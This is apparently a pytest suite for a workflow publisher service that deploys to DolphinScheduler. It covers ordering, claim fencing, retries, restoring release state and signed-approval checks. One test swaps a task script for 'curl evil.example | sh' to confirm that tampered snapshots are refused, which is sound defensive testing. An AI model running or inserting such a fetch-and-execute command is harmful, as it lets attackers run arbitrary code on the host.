"""The publish use cases on real PostgreSQL with the in-memory DS (``publisher_testing.fakes``): ordering, fencing,
failures and the restore of the release state after an interrupted deploy."""

from __future__ import annotations

import asyncio
import uuid
from collections.abc import AsyncIterator
from datetime import UTC, datetime

import pytest
from opentelemetry import trace
from opentelemetry.sdk.trace.export import SimpleSpanProcessor
from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter
from prometheus_client import REGISTRY
from sqlalchemy import func, select, update
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from common.approvals import approve
from common.db import unit_of_work
from common.dolphin import DagData, DolphinUnavailable, ReleaseState
from common.dolphin.links import DsLinks
from common.errors import Conflict, NotFound
from common.events import registry
from common.events.models import PublishCompleted, PublishOperation, PublishRequested, Topics
from common.identity import trusted_keys_from
from common.outbox import Outbox
from common.settings import ServiceSettings
from common.telemetry import setup_tracing
from common.testing.fixtures import MigratedFn, rolled_back
from common.testing.identity import approved, signer
from common.workflow import Edge, ShellParams, SnapshotTask, StructureSnapshot
from publisher import restore
from publisher.config import MIGRATIONS
from publisher.db.tables import ds_restore, engine_task_code, outbox_table, workflow_publish_record
from publisher.deps import Deps, DsTarget, Retries
from publisher.domain.errors import IdempotencyKeyReused, NotDeployed
from publisher.service import acceptance, batch, publish_queue, views
from publisher_testing.fakes import FakeDolphin

pytestmark = pytest.mark.timeout(120)


def _snapshot(workflow_id: int, script: str = "echo 2") -> StructureSnapshot:
    return StructureSnapshot(
        workflow_id=workflow_id,
        workflow_name=f"wf-{workflow_id}",
        tasks=(
            SnapshotTask(task_id=1, name="a", task_type="SHELL", params=ShellParams(script="echo 1")),
            SnapshotTask(task_id=2, name="b", task_type="SHELL", params=ShellParams(script=script)),
        ),
        edges=(Edge(upstream_task_id=1, downstream_task_id=2),),
    )


def _chain(workflow_id: int, tasks: int) -> StructureSnapshot:
    return StructureSnapshot(
        workflow_id=workflow_id,
        workflow_name=f"wf-{workflow_id}",
        tasks=tuple(
            SnapshotTask(task_id=t, name=f"t{t}", task_type="SHELL", params=ShellParams(script=f"echo {t}"))
            for t in range(1, tasks + 1)
        ),
        edges=tuple(Edge(upstream_task_id=t, downstream_task_id=t + 1) for t in range(1, tasks)),
    )


def _request(snap: StructureSnapshot, operation: str, version_no: int = 1) -> PublishRequested:
    return approved(
        PublishRequested(
            request_id=uuid.uuid4(),
            workflow_id=snap.workflow_id,
            operation=PublishOperation(operation),
            version_id=version_no,
            version_no=version_no,
            operator="alice",
            requested_at=datetime.now(UTC),
            snapshot=snap,
        )
    )


@pytest.fixture
async def env(migrated_schema: MigratedFn) -> AsyncIterator[tuple[Deps, FakeDolphin]]:
    """The use cases' dependencies on the publisher's schema (migrated once per session) in a transaction rolled back
    after the test, with the in-memory DS."""
    db = await migrated_schema("publisher", MIGRATIONS)
    async with rolled_back(db) as sessions:
        fake = FakeDolphin()
        yield _deps(sessions, fake), fake


def _deps(sessions: async_sessionmaker[AsyncSession], fake: FakeDolphin) -> Deps:
    return Deps(
        sessions=sessions,
        outbox=Outbox(outbox_table, source="/tests"),
        gateway=fake.gateway,
        rest=fake.rest,
        target=DsTarget("default", "etl", "admin", "default", "default", DsLinks("http://ds/ui")),
        lease_s=60,
        retries=Retries(ds_attempts=3, ds_initial_s=0.01, ds_max_s=0.02, restore_initial_s=0.05, restore_max_s=0.1),
        approvals=trusted_keys_from(ServiceSettings()),
    )


async def _accept(deps: Deps, event: PublishRequested) -> int:
    async with unit_of_work(deps.sessions) as s:
        return await acceptance.accept_publish(s, deps, event)


async def _outbox_count(deps: Deps) -> int:
    async with deps.sessions() as s:
        return int((await s.execute(select(func.count()).select_from(outbox_table))).scalar_one())


async def test_records_of_one_workflow_run_in_order(env: tuple[Deps, FakeDolphin]) -> None:
    deps, fake = env
    first = await _accept(deps, _request(_snapshot(1), "deploy", 1))
    second = await _accept(deps, _request(_snapshot(1, "echo v2"), "deploy", 2))
    other = await _accept(deps, _request(_snapshot(2), "online", 1))
    assert await publish_queue.run_publish(deps, second) is False  # the older record of workflow 1 goes first
    assert await publish_queue.run_publish(deps, other) is True  # another workflow is not held up
    assert await publish_queue.run_next_publish(deps) is True
    assert (await views.get_record(deps, first)).status == "success"
    assert await publish_queue.run_publish(deps, second) is True
    rec = await views.get_record(deps, second)
    assert rec.status == "success"
    assert rec.engine_version == 2
    assert await publish_queue.run_next_publish(deps) is False
    assert await _outbox_count(deps) == 3
    assert fake.calls["createOrGrantProject"] == 1  # the project is ensured once per process


async def test_a_taken_over_claim_writes_nothing(env: tuple[Deps, FakeDolphin]) -> None:
    deps, fake = env
    record_id = await _accept(deps, _request(_snapshot(3), "deploy"))
    original = fake.gateway.create_or_update_workflow

    async def slow_and_taken_over(**kwargs: object) -> int:
        async with unit_of_work(deps.sessions) as s:  # meanwhile another worker re-claimed the record
            await s.execute(
                update(workflow_publish_record)
                .where(workflow_publish_record.c.id == record_id)
                .values(attempts=workflow_publish_record.c.attempts + 1)
            )
        return await original(**kwargs)  # type: ignore[arg-type]

    fake.gateway.create_or_update_workflow = slow_and_taken_over  # type: ignore[method-assign]
    assert await publish_queue.run_publish(deps, record_id) is True
    rec = await views.get_record(deps, record_id)
    assert rec.status == "running"  # left to the worker that holds the claim now
    assert await _outbox_count(deps) == 0


async def test_failure_keeps_codes_and_retry_restores_the_online_state(env: tuple[Deps, FakeDolphin]) -> None:
    deps, fake = env
    snap = _snapshot(4)
    first = await _accept(deps, _request(snap, "online", 1))
    assert await publish_queue.run_publish(deps, first)
    code = (await views.get_record(deps, first)).engine_workflow_code
    assert code is not None

    # a deploy of a new version: DS takes the workflow offline, then re-onlining it fails (every attempt)
    fake.fail("release_workflow", DolphinUnavailable("DolphinScheduler POST release answered HTTP 503"), times=3)
    deploy = await _accept(deps, _request(_snapshot(4, "echo v2"), "deploy", 2))
    assert await publish_queue.run_publish(deps, deploy)
    failed = await views.get_record(deps, deploy)
    assert failed.status == "failed"
    assert "HTTP 503" in (failed.error_message or "")
    assert "FAILED at REST release ONLINE" in failed.log
    assert failed.log.count("retrying in") == 2
    assert fake.workflows[code].release_state is ReleaseState.OFFLINE
    # the record tells what DS holds now, and the restore of the intended state is due
    assert (failed.release_state, failed.intended_release_state) == ("OFFLINE", "ONLINE")
    assert "DolphinScheduler now holds it OFFLINE" in failed.log
    pending = await restore.get_restore(deps, 4)
    assert (pending.status, pending.record_id, pending.ds_release_state) == ("restoring", deploy, "OFFLINE")

    retried, replayed = await acceptance.retry_publish(deps, deploy, key="click-1")
    assert not replayed
    assert retried.status == "success", retried.log
    assert retried.retry_of == deploy
    # the same click again is the same answer; another retry of that record is refused: it publishes once
    again, replayed = await acceptance.retry_publish(deps, deploy, key="click-1")
    assert (again.id, replayed) == (retried.id, True)
    with pytest.raises(Conflict, match=f"retried already as record {retried.id}"):
        await acceptance.retry_publish(deps, deploy, key="click-2")
    with pytest.raises(IdempotencyKeyReused):
        await acceptance.retry_publish(deps, first, key="click-1")
    assert fake.workflows[code].release_state is ReleaseState.ONLINE  # the state before the deploy is restored
    assert (await restore.get_restore(deps, 4)).status == "restored"
    async with deps.sessions() as s:
        codes = (await s.execute(select(func.count()).select_from(engine_task_code))).scalar_one()
    assert codes == 2
    assert fake.calls["genTaskCodeList"] == 1  # codes are stable across versions and retries


async def _completed(deps: Deps) -> list[PublishCompleted]:
    """The ``publish.completed`` events in the outbox, oldest first."""
    async with deps.sessions() as s:
        stmt = select(outbox_table.c.value).where(outbox_table.c.topic == Topics.PUBLISH_COMPLETED)
        values = (await s.execute(stmt.order_by(outbox_table.c.id))).scalars().all()
    events = [registry.decode(v)[1] for v in values]
    assert all(isinstance(e, PublishCompleted) for e in events)
    return events  # type: ignore[return-value]


def _held_codes(fake: FakeDolphin, workflow_code: int) -> dict[str, int]:
    """Task name -> code of what the DS fake holds."""
    return {t["name"]: int(t["code"]) for t in fake.workflows[workflow_code].tasks}


async def test_publish_completed_names_the_task_codes_ds_holds(env: tuple[Deps, FakeDolphin]) -> None:
    """A deploy/online that DS confirmed (or an unchanged skip) carries the code of each task of what DS holds; a
    failure and an offline carry none (``None``: the codes told before still hold)."""
    deps, fake = env
    v1 = _snapshot(11)
    first = await _accept(deps, _request(v1, "deploy", 1))
    assert await publish_queue.run_publish(deps, first)
    code = (await views.get_record(deps, first)).engine_workflow_code
    assert code is not None
    held = _held_codes(fake, code)
    (done,) = await _completed(deps)
    assert {c.task_id: c.ds_task_code for c in done.task_codes or ()} == {1: held["a"], 2: held["b"]}

    # a new version with one more task: the new one gets a code, the others keep theirs
    c = SnapshotTask(task_id=3, name="c", task_type="SHELL", params=ShellParams(script="echo 3"))
    v2 = v1.model_copy(
        update={"tasks": (*v1.tasks, c), "edges": (*v1.edges, Edge(upstream_task_id=2, downstream_task_id=3))}
    )
    second = await _accept(deps, _request(v2, "online", 2))
    assert await publish_queue.run_publish(deps, second)
    held2 = _held_codes(fake, code)
    assert (held2["a"], held2["b"]) == (held["a"], held["b"])
    done2 = (await _completed(deps))[-1]
    assert {c.task_id: c.ds_task_code for c in done2.task_codes or ()} == {1: held["a"], 2: held["b"], 3: held2["c"]}

    skipped = await _accept(deps, _request(v2, "deploy", 3))  # the same definition: nothing sent
    assert await publish_queue.run_publish(deps, skipped)
    done3 = (await _completed(deps))[-1]
    assert done3.outcome.value == "skipped_unchanged"
    assert done3.task_codes == done2.task_codes

    fake.fail("createOrUpdateWorkflow", DolphinUnavailable("gateway unreachable"), times=3)
    failing = await _accept(deps, _request(_snapshot(11, "echo v4"), "deploy", 4))
    assert await publish_queue.run_publish(deps, failing)
    done4 = (await _completed(deps))[-1]
    assert (done4.outcome.value, done4.task_codes) == ("failed", None)

    off = await _accept(deps, _request(v2, "offline", 5))
    assert await publish_queue.run_publish(deps, off)
    done5 = (await _completed(deps))[-1]
    assert (done5.outcome.value, done5.operation.value, done5.task_codes) == ("success", "offline", None)


async def test_a_transient_ds_failure_is_retried_inside_the_publish(env: tuple[Deps, FakeDolphin]) -> None:
    deps, fake = env
    fake.fail("createOrUpdateWorkflow", DolphinUnavailable("gateway unreachable"), times=2)
    record_id = await _accept(deps, _request(_snapshot(6), "online"))
    assert await publish_queue.run_publish(deps, record_id)
    rec = await views.get_record(deps, record_id)
    assert rec.status == "success", rec.log
    assert rec.log.count("gateway createOrUpdateWorkflow: attempt") == 2
    assert fake.calls["createOrUpdateWorkflow"] == 3
    with pytest.raises(NotFound):
        await restore.get_restore(deps, 6)  # nothing diverged


async def _diverged(deps: Deps, fake: FakeDolphin, workflow_id: int) -> int:
    """Online, then a new version whose release keeps failing: DS holds it OFFLINE; returns the failed record."""
    assert await publish_queue.run_publish(deps, await _accept(deps, _request(_snapshot(workflow_id), "online", 1)))
    fake.fail("release_workflow", DolphinUnavailable("HTTP 503"), times=3)
    failed = await _accept(deps, _request(_snapshot(workflow_id, "echo v2"), "online", 2))
    assert await publish_queue.run_publish(deps, failed)
    return failed


async def _due(deps: Deps) -> list[int]:
    async with unit_of_work(deps.sessions) as s:  # the backoff has passed
        await s.execute(update(ds_restore).values(next_attempt_at=func.now()))
    return await restore.restore_due(deps)


async def test_the_reconciler_restores_until_ds_holds_the_intended_state(env: tuple[Deps, FakeDolphin]) -> None:
    deps, fake = env
    failed = await _diverged(deps, fake, 7)
    code = (await views.get_record(deps, failed)).engine_workflow_code
    assert code is not None
    assert await restore.restore_due(deps) == []  # not due yet (backoff)

    fake.fail("release_workflow", DolphinUnavailable("HTTP 503"), times=3)  # DS is still down at the 1st attempt
    [attempt] = await _due(deps)
    assert await publish_queue.run_publish(deps, attempt)
    again = await restore.get_restore(deps, 7)
    assert (again.status, again.attempts, again.record_id, again.attempt_record_id) == (
        "restoring",
        1,
        attempt,
        attempt,
    )
    assert (await views.get_record(deps, attempt)).operator == restore.RECONCILER

    [second] = await _due(deps)
    assert await publish_queue.run_publish(deps, second)
    done = await views.get_record(deps, second)
    assert (done.status, done.retry_of, done.release_state) == ("success", attempt, "ONLINE")
    assert fake.workflows[code].release_state is ReleaseState.ONLINE
    assert (await restore.get_restore(deps, 7)).status == "restored"
    assert await _due(deps) == []


async def test_a_person_cancels_and_restores_now(env: tuple[Deps, FakeDolphin]) -> None:
    deps, fake = env
    failed = await _diverged(deps, fake, 8)
    cancelled = await restore.cancel_restore(deps, 8, "carol")
    assert (cancelled.status, cancelled.cancelled_by, cancelled.next_attempt_at) == ("cancelled", "carol", None)
    assert await _due(deps) == []  # no attempt while cancelled

    now = await restore.restore_now(deps, 8, "dave")
    assert (now.status, now.requested_by, now.cancelled_by) == ("restoring", "dave", None)
    assert now.attempt_record_id is not None
    assert await publish_queue.run_publish(deps, now.attempt_record_id)
    rec = await views.get_record(deps, now.attempt_record_id)
    assert (rec.status, rec.operator, rec.retry_of) == ("success", "dave", failed)
    assert (await restore.get_restore(deps, 8)).status == "restored"
    with pytest.raises(Conflict):
        await restore.restore_now(deps, 8, "dave")
    with pytest.raises(Conflict):
        await restore.cancel_restore(deps, 8, "dave")


async def test_a_newer_publish_that_succeeds_ends_the_restore(env: tuple[Deps, FakeDolphin]) -> None:
    deps, fake = env
    await _diverged(deps, fake, 9)
    offline = await _accept(deps, _request(_snapshot(9, "echo v2"), "offline", 2))
    assert await publish_queue.run_publish(deps, offline)
    assert (await restore.get_restore(deps, 9)).status == "restored"
    assert await _due(deps) == []


async def test_a_restarted_instance_releases_only_its_own_dead_claims(env: tuple[Deps, FakeDolphin]) -> None:
    deps, _ = env
    mine = await _accept(deps, _request(_snapshot(10), "deploy"))
    theirs = await _accept(deps, _request(_snapshot(11), "deploy"))
    async with unit_of_work(deps.sessions) as s:  # both claimed a moment ago, then their processes died
        for record_id, owner in ((mine, deps.instance_id), (theirs, "other-pod")):
            await s.execute(
                update(workflow_publish_record)
                .where(workflow_publish_record.c.id == record_id)
                .values(status="running", claimed_at=func.now(), claimed_by=owner, attempts=1)
            )
    assert await publish_queue.run_next_publish(deps) is False  # both leases still hold
    assert await publish_queue.release_own_claims(deps) == [mine]
    assert await publish_queue.run_next_publish(deps) is True
    rec = await views.get_record(deps, mine)
    assert (rec.status, rec.attempts) == ("success", 2)
    assert "the previous attempt was interrupted" in rec.log
    assert (await views.get_record(deps, theirs)).status == "running"


async def test_offline_of_a_workflow_never_deployed_fails_clearly(env: tuple[Deps, FakeDolphin]) -> None:
    deps, fake = env
    record_id = await _accept(deps, _request(_snapshot(5), "offline"))
    assert await publish_queue.run_publish(deps, record_id)
    rec = await views.get_record(deps, record_id)
    assert rec.status == "failed"
    assert "never deployed" in (rec.error_message or "")
    assert sum(fake.calls.values()) == 0


async def test_the_run_continues_the_trace_of_the_request(env: tuple[Deps, FakeDolphin]) -> None:
    """Workers run records outside the consume span: the record keeps the request's trace context, the run continues
    it, and ``publish.completed`` (outbox headers) carries it on."""
    deps, _ = env
    spans = InMemorySpanExporter()
    setup_tracing("publisher-test", extra_processors=[SimpleSpanProcessor(spans)])
    try:
        with trace.get_tracer(__name__).start_as_current_span("consume publish.requested") as consume:
            record_id = await _accept(deps, _request(_snapshot(6), "deploy"))
        untraced = await _accept(deps, _request(_snapshot(7), "deploy"))
        assert await publish_queue.run_publish(deps, record_id)
        assert await publish_queue.run_publish(deps, untraced)

        trace_id = consume.get_span_context().trace_id
        runs = {
            (s.attributes or {}).get("publish.record_id"): s
            for s in spans.get_finished_spans()
            if s.name == "publisher.run_publish"
        }
        run = runs[record_id]
        assert run.parent is not None
        assert run.parent.span_id == consume.get_span_context().span_id
        assert run.context is not None
        assert run.context.trace_id == trace_id
        assert runs[untraced].parent is None  # accepted outside any trace: the run starts one
        async with deps.sessions() as s:
            headers = (await s.execute(select(outbox_table.c.headers).where(outbox_table.c.key == "6"))).scalar_one()
        assert int(headers["traceparent"].split("-")[1], 16) == trace_id
    finally:
        spans.shutdown()


async def test_more_than_100_new_tasks_take_codes_in_calls_of_100(env: tuple[Deps, FakeDolphin]) -> None:
    """DS gives at most 100 codes per genTaskCodeList (the fake refuses more, as DS does)."""
    deps, fake = env
    record_id = await _accept(deps, _request(_chain(8, 250), "deploy"))
    assert await publish_queue.run_publish(deps, record_id)
    rec = await views.get_record(deps, record_id)
    assert rec.status == "success", rec.log
    assert fake.calls["genTaskCodeList"] == 3
    assert "250 new from DS genTaskCodeList (3 calls)" in rec.log
    assert rec.engine_workflow_code is not None
    assert len(fake.workflows[rec.engine_workflow_code].tasks) == 250

    # a new version with 101 more tasks: the 250 codes are reused, 101 new ones come in two calls
    again = await _accept(deps, _request(_chain(8, 351), "deploy", 2))
    assert await publish_queue.run_publish(deps, again)
    assert (await views.get_record(deps, again)).status == "success"
    assert fake.calls["genTaskCodeList"] == 5


async def test_batch_run_reports_each_workflow(env: tuple[Deps, FakeDolphin]) -> None:
    """One start per workflow: a failure midway is reported with DS's code and message, the others are started."""
    deps, fake = env
    ids = {}
    for workflow_id, operation in ((11, "online"), (12, "deploy"), (13, "online"), (14, "online")):
        record_id = await _accept(deps, _request(_snapshot(workflow_id), operation))
        assert await publish_queue.run_publish(deps, record_id)
        ids[workflow_id] = (await views.get_record(deps, record_id)).engine_workflow_code
    del fake.workflows[ids[14]]  # deleted in DS behind our back
    fake.fail("start_workflow_instance", DolphinUnavailable("DolphinScheduler POST start answered HTTP 502"))

    result = await batch.batch_run(deps, batch.BatchRunRequest(workflow_ids=[11, 12, 13, 14]))
    by_id = {r.workflow_id: r for r in result.results}
    assert [r.workflow_id for r in result.results] == [11, 12, 13, 14]
    assert (result.started, result.failed, result.unknown) == (1, 2, 1)
    started = [r for r in result.results if r.status == "started"]
    assert len(started) == 1
    assert len(started[0].instance_ids) == 1
    assert result.instance_ids == started[0].instance_ids
    unknown = [r for r in result.results if r.status == "unknown"]
    assert len(unknown) == 1
    assert unknown[0].error == "dolphin-unavailable"
    assert "may have started" in (unknown[0].message or "")
    offline = by_id[12]
    assert (offline.status, offline.error, offline.ds_code) == ("failed", "dolphin-workflow-offline", 50014)
    assert offline.ds_msg == "start workflow instance error:The workflowDefinition should be online"
    gone = by_id[14]
    assert (gone.status, gone.error, gone.ds_code) == ("failed", "dolphin-workflow-missing", 10000)
    assert "the DS workflow no longer exists" in (gone.message or "")

    with pytest.raises(NotDeployed):  # never deployed: nothing is started
        await batch.batch_run(deps, batch.BatchRunRequest(workflow_ids=[11, 99]))
    assert fake.calls["start_workflow_instance"] == 4


def _refused(reason: str, operation: str = "deploy") -> float:
    return REGISTRY.get_sample_value("publish_refused_total", {"operation": operation, "reason": reason}) or 0.0


async def _record_refused(deps: Deps, fake: FakeDolphin, event: PublishRequested, reason: str) -> str:
    before = _refused(reason, event.operation.value)
    record_id = await _accept(deps, event)
    assert await publish_queue.run_publish(deps, record_id)
    rec = await views.get_record(deps, record_id)
    assert rec.status == "failed"
    assert "FAILED at approval check" in rec.log
    assert sum(fake.calls.values()) == 0, "no DolphinScheduler call before the approval check"
    assert _refused(reason, event.operation.value) == before + 1
    async with deps.sessions() as s:
        row = (await s.execute(select(outbox_table.c.value).order_by(outbox_table.c.id.desc()).limit(1))).one()
    # publish.completed(failed) with the reason: the definition service and the alerting service learn of it
    assert b'"outcome":"failed"' in row.value
    return rec.error_message or ""


async def test_a_tampered_snapshot_is_refused_before_any_ds_call(env: tuple[Deps, FakeDolphin]) -> None:
    deps, fake = env
    approved_request = _request(_snapshot(9), "deploy")
    # the approved version's snapshot, with one task's script changed on the way
    tampered = approved_request.model_copy(update={"snapshot": _snapshot(9, "curl evil.example | sh")})
    message = await _record_refused(deps, fake, tampered, "mismatch")
    assert "is not the approved version 1" in message


async def test_a_request_without_approval_or_signed_by_another_service_is_refused(
    env: tuple[Deps, FakeDolphin],
) -> None:
    deps, fake = env
    unsigned = _request(_snapshot(10), "deploy").model_copy(update={"approval": None})
    assert "carries no approval" in await _record_refused(deps, fake, unsigned, "missing")
    # a valid signature, but by lineage-resolver's key: only the definition service approves
    event = _request(_snapshot(11), "deploy")
    forged = approve(
        signer("lineage-resolver"),
        request_id=event.request_id,
        workflow_id=event.workflow_id,
        version_id=event.version_id,
        version_no=event.version_no,
        operation="deploy",
        content_hash=event.snapshot.content_hash(),
    )
    message = await _record_refused(deps, fake, event.model_copy(update={"approval": forged}), "signature")
    assert "not by the definition service" in message


async def test_an_approval_of_another_request_is_refused(env: tuple[Deps, FakeDolphin]) -> None:
    deps, fake = env
    offline = _request(_snapshot(12), "offline")
    # the approval of an offline, replayed as a deploy of the same snapshot
    replayed = _request(_snapshot(12), "deploy").model_copy(update={"approval": offline.approval})
    assert "op differ" in await _record_refused(deps, fake, replayed, "mismatch")


async def _published(deps: Deps, event: PublishRequested) -> views.PublishRecordView:
    """Accept the request, run its record, and read it back."""
    record_id = await _accept(deps, event)
    assert await publish_queue.run_publish(deps, record_id)
    return await views.get_record(deps, record_id)


async def test_a_first_deploy_looks_its_name_up_while_the_codes_are_fetched(env: tuple[Deps, FakeDolphin]) -> None:
    """The name check of a workflow new to DS overlaps the genTaskCodeList call (one DS round trip less); the check
    still comes before the upsert."""
    deps, fake = env
    asked_during_codes: list[int] = []
    gen = fake.gateway.gen_task_code_list

    async def slow_codes(count: int) -> list[int]:
        await asyncio.sleep(0.05)  # a DS round trip: the lookup started before it runs meanwhile
        asked_during_codes.append(fake.calls["get_workflow_definition_by_name"])
        return await gen(count)

    fake.gateway.gen_task_code_list = slow_codes  # type: ignore[method-assign]
    record_id = await _accept(deps, _request(_snapshot(30), "deploy"))
    assert await publish_queue.run_publish(deps, record_id)
    rec = await views.get_record(deps, record_id)
    assert rec.status == "success", rec.log
    assert asked_during_codes == [1]
    assert fake.calls["get_workflow_definition_by_name"] == 1

    # a later deploy of the same workflow (known to DS) does not look its name up at all
    again = await _accept(deps, _request(_snapshot(30, "echo v2"), "deploy", 2))
    assert await publish_queue.run_publish(deps, again)
    assert (await views.get_record(deps, again)).status == "success"
    assert fake.calls["get_workflow_definition_by_name"] == 1


async def test_a_first_deploy_under_a_name_another_workflow_holds_in_ds_is_refused(
    env: tuple[Deps, FakeDolphin],
) -> None:
    deps, fake = env
    first = await _accept(deps, _request(_snapshot(31), "deploy"))
    assert await publish_queue.run_publish(deps, first)
    owner = await views.get_record(deps, first)
    assert owner.status == "success"
    same_name = _snapshot(32).model_copy(update={"workflow_name": "wf-31"})
    rec = await _published(deps, _request(same_name, "deploy"))
    assert rec.status == "failed"
    assert "belongs to platform workflow 31" in (rec.error_message or "")
    assert fake.calls["createOrUpdateWorkflow"] == 1  # only the first workflow's


async def test_an_early_name_lookup_that_failed_is_asked_again_with_retries(env: tuple[Deps, FakeDolphin]) -> None:
    deps, fake = env
    fake.fail("get_workflow_definition_by_name", DolphinUnavailable("DolphinScheduler answered HTTP 503"), times=2)
    rec = await _published(deps, _request(_snapshot(33), "deploy"))
    assert rec.status == "success", rec.log
    assert "REST query-by-name: the early lookup failed (dolphin-unavailable); asking again" in rec.log
    assert "REST query-by-name: attempt 1/3 failed" in rec.log
    assert fake.calls["get_workflow_definition_by_name"] == 3


async def test_a_first_deploy_failing_before_its_upsert_leaves_no_lookup_behind(
    env: tuple[Deps, FakeDolphin],
) -> None:
    deps, fake = env
    fake.fail("genTaskCodeList", DolphinUnavailable("gateway unreachable"), times=3)
    lookup = fake.rest.get_workflow_definition_by_name

    async def slow_lookup(project_code: int, name: str) -> DagData:
        await asyncio.sleep(30)  # still asking when the publish fails
        return await lookup(project_code, name)

    fake.rest.get_workflow_definition_by_name = slow_lookup  # type: ignore[method-assign]
    before = {t for t in asyncio.all_tasks() if not t.done()}
    rec = await _published(deps, _request(_snapshot(34), "deploy"))
    assert rec.status == "failed"
    assert fake.calls["createOrUpdateWorkflow"] == 0
    assert {t for t in asyncio.all_tasks() if not t.done()} - before == set()
